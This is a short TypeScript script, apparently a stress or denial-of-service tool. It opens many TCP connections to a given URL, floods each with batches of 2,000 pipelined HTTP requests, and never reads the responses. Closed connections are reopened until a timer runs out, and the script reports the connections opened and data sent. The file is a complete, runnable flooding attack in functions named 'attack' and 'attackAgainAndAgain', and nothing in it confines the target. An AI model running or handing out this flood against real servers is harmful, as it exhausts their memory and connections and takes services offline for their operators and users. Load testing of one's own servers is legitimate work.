/**
 * Sends packets of 2,000 pipelined requests on many connections and never reads an answer; closed
 * connections are reopened until the time is over. Arguments: URL, connections, seconds, and
 * requests as `METHOD PATH`, used in turn.
 */

import { connect } from 'node:net';
import { setTimeout } from 'node:timers/promises';

const [url = '', connections = '', seconds = '', ...requests] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const endAt = Date.now() + Number(seconds) * 1_000;
const packet = requests
  .map((line) => `${line} HTTP/1.1\r\nHost: a\r\n\r\n`)
  .join('')
  .repeat(2_000 / requests.length);
let opened = 0;
let sent = 0;

async function attack(): Promise<void> {
  const socket = connect({ host: hostname, port: Number(port) });
  socket.on('error', () => {});
  // No data listener, so nothing is read.
  socket.pause();
  opened += 1;
  while (!socket.destroyed && Date.now() < endAt) {
    if (!socket.writableNeedDrain) {
      socket.write(packet);
      sent += packet.length;
    }
    await setTimeout(250);
  }
  socket.destroy();
}

async function attackAgainAndAgain(): Promise<void> {
  while (Date.now() < endAt) await attack();
}

await Promise.all(Array.from({ length: Number(connections) }, attackAgainAndAgain));
process.stdout.write(JSON.stringify({ opened, sentMiB: Math.round(sent / 2 ** 20) }));
